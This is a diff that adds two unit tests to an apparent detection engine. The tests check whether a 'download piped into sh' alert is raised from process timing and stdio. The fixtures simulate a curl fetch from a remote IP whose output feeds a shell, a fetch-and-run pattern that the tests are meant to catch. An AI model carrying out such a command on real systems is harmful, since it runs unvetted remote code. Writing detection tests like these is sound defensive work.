@@ -71,6 +71,25 @@ def test_pipe_identities_link_a_pipe_whatever_the_timing(engine):
     assert any("download piped into bash" in r for r in verdict.reasons)
 
 
+def test_a_pipe_end_gone_before_its_stdio_was_read_is_linked_by_timing(engine):
+    """curl exited before the agent read its stdio; sh's stdin is a pipe nobody else names."""
+    session = Session()
+    curl = session.exec("curl -s http://203.0.113.9/x", 100, "bash")
+    sh = session.exec("sh", 100, "bash", gap=0.002, stdin="pipe:991", stdout="tty")
+    verdict = _score(engine, [curl, sh])[1]
+    assert verdict.severity == "alert"
+    assert any("download piped into sh" in r for r in verdict.reasons), verdict.reasons
+
+
+def test_stdio_that_rules_a_pipe_out_is_believed(engine):
+    """Both started together, but sh reads the terminal and curl writes another pipe: no pipe between them."""
+    session = Session()
+    curl = session.exec("curl -s http://203.0.113.9/x", 100, "bash", stdout="pipe:5")
+    sh = session.exec("sh", 100, "bash", gap=0.002, stdin="tty", stdout="tty")
+    verdict = _score(engine, [curl, sh])[1]
+    assert not any("piped" in r for r in verdict.reasons), verdict.reasons
+
+
 def test_sequential_commands_are_not_a_pipe(engine):
     session = Session()
     curl = session.exec("curl -s https://example.org/health", 100, "bash")
